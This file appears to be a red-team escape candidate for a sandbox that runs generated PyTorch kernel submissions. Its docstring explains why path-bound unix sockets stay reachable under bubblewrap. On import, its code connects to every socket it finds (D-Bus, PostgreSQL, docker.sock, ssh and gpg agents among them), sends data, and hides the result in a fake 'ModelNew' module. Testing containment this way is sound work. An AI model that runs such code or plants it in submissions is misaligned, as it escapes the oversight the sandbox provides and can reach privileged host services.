"""Attack: reach a local service through a filesystem unix socket, which no network namespace
isolates.

``--unshare-net`` gives the worker a loopback of its own and hides abstract unix sockets
(sandbox_s6 ``fds_parent``), but a unix socket bound to a *path* is found through the
filesystem, and ``--ro-bind / /`` leaves the host's paths in place: ``connect`` on a socket
inode needs write permission on it, and a read-only mount does not refuse that for sockets
(EROFS applies to regular files, folders and links). Only ``/root``, ``/run/secrets``,
``/var/run/secrets``, ``/etc/ssh``, ``/var/tmp``, the home and the run directory are hidden; ``/run``
(D-Bus's system bus 0666, PostgreSQL's ``/run/postgresql/.s.PGSQL.5432`` 0777, ``docker.sock``
for its group, ``/run/user/<uid>/`` -- the user's session bus, ssh-agent and gpg-agent, reachable
when the run is not root and the worker keeps the user's uid) stays visible. This external
candidate lists every socket it can see under /run, /var/run, /srv, /opt, /mnt, /dev and the
repository, then connects to the one run_attack.py ``--unix /run/kernelsynth-s7.sock`` plants
(mode 0666, as those services use) and sends data to it.

Success (GOT THROUGH): the host-side listener prints the bytes the candidate sent, and the
candidate's reason carries the service's reply. Contained: ``connect`` fails (fault ``sandbox``)
and the listener receives nothing.
"""
import os
import socket
import stat

import torch

found, report = [], []
for top in ("/run", "/var/run", "/srv", "/opt", "/mnt", "/dev", "/tmp"):
    for root, dirs, files in os.walk(top):
        for n in files + dirs:
            p = os.path.join(root, n)
            try:
                if stat.S_ISSOCK(os.lstat(p).st_mode):
                    found.append(p)
            except OSError:
                pass
report.append(f"uid {os.getuid()}; sockets visible: {sorted(set(found))[:20]}")
for path in sorted(set(found)):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect(path)
        s.sendall(b"kernelsynth-s7 unix_socket: exfiltrated from the sandbox (uid %d)\n" % os.getuid())
        report.append(f"{path}: CONNECTED, reply {s.recv(200)!r}")
    except OSError as e:
        report.append(f"{path}: {type(e).__name__} {e}")
    finally:
        s.close()
RESULT = "; ".join(report)


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()

    def forward(self, x):
        raise RuntimeError("unix_socket: " + RESULT)
